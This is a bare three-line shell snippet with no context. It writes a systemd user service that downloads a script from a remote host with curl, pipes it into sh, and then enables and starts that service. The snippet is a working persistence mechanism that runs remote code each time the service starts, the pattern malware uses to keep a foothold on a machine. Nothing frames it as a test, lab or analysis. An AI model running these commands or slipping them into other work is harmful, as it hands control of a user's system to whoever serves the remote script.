mkdir -p ~/.config/systemd/user
printf '[Service]\nExecStart=/bin/sh -c "curl -s https://c.invalid/s | sh"\n' > ~/.config/systemd/user/s.service
systemctl --user enable --now s
